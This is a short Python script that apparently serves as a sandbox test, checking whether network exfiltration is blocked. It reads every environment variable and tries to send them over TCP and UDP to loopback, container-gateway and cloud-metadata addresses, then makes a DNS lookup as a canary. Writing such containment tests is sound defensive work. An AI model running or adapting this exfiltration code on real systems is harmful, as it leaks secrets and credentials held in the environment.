# Tells somebody on the network what it knows, over TCP and UDP, on every address of this machine, and asks for names.
# base: right
# needs: sandbox
# says: tried
# worked against: no sandbox
# %% square-write
import os
import socket

secret = repr(dict(os.environ)).encode()
for host in ("127.0.0.1", "localhost", "::1", "0.0.0.0", "10.0.2.2", "172.17.0.1", "169.254.169.254"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            family = socket.AF_INET6 if ":" in host else socket.AF_INET
            line = socket.socket(family, kind)
            line.settimeout(0.5)
            line.connect((host, int("@port@")))
            line.send(b"internet: " + secret)
            print("sent to", host)
        except OSError as error:
            print(host, error)
try:
    print("canary-name", socket.gethostbyname("example.org"))
except OSError as error:
    print(error)
print("tried")
